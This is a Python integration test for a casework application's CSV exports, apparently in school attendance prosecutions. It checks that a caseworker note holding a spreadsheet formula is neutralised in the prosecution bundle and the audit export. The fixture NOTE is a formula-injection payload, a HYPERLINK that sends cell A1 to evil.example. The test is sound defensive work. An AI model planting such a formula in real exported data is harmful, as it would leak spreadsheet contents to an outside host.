"""Issue 19: a caseworker's note `=HYPERLINK(…)` reaches the prosecution bundle's tasks.csv as
inert text, while the rest of the file is as it was; the audit CSV export goes through the same
helper."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import sqlalchemy as sa
from sqlmodel import col

from casework.db.session import get_engine, unit_of_work
from casework.db.tables import Task
from casework.service.audit.trail import export
from casework.service.tasks.deadlines import run_deadlines
from tests.integration.test_decisions import NOW, POLICY, UPN, approve, requested, seed, sweep

NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_bundle_tasks_csv_neutralises_a_formula_note(sqlite_url: str, tmp_path: Path) -> None:
    engine = get_engine(sqlite_url)
    seed(engine)
    sweep(engine, date(2025, 11, 14))
    approve(engine, requested(engine), date(2025, 11, 17))
    with unit_of_work(engine) as db:
        db.execute(sa.update(Task).where(col(Task.upn) == UPN).values(note=NOTE))
    run_deadlines(engine, date(2025, 12, 17), policy=POLICY, now=NOW)
    factors = {"eso_considered": "not suitable", "contract_explored": "declined"}
    approve(engine, requested(engine, "prosecution"), date(2026, 1, 15), tmp_path, factors=factors)
    text = (tmp_path / "bundles" / f"{UPN}-2026-01-15" / "tasks.csv").read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = {row["note"] for row in rows if row.get("note")}
    assert notes == {"'" + NOTE}
    assert all(not value.startswith("=") for row in rows for value in row.values() if value)
    assert {row["kind"] for row in rows} >= {"notice_payment"}

    out = io.StringIO()
    export(engine, "csv", out, upn=UPN)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
